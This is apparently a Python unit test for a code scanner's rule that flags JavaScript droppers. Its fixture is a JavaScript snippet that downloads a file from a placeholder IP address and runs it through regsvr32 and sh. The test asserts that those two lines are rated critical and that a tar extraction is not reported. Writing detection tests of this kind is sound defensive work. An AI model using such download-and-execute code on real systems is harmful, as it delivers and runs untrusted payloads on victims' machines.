"""Severities of droppers: a downloaded file given to a loader or an archive tool, a download checked against a
signature, PowerShell download cradles."""
from __future__ import annotations

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()


def _by_line(rule_id: str, path: str, text: str) -> dict[int, str]:
    analyzer = Analyzer(RULES.select((rule_id,), ()), Config(honour_suppressions=False))
    found = analyzer.analyze(Document(path=path, content=text.encode())).findings
    return {f.line: f.severity for f in found if f.rule_id == rule_id}


def test_js_downloaded_file_in_a_loaders_arguments_is_critical_given_to_tar_not_reported():
    text = ("const fs = require('fs');\nconst https = require('https');\nconst cp = require('child_process');\n"
            "const dest = require('path').join(require('os').tmpdir(), 'a');\n"
            "https.get('https://198.51.100.7/a', (res) => {\n"
            "  const out = fs.createWriteStream(dest);\n"
            "  res.pipe(out);\n"
            "  out.on('finish', () => {\n"
            "    cp.spawn('C:\\\\Windows\\\\System32\\\\regsvr32.exe', ['/s', dest]);\n"
            "    cp.execFileSync('tar', ['-xzf', dest, '-C', '/tmp/x']);\n"
            "    cp.spawnSync('sh', [dest]);\n"
            "  });\n"
            "});\n")
    assert _by_line("js-download-and-run-file", "scripts/get.js", text) == {9: "critical", 11: "critical"}
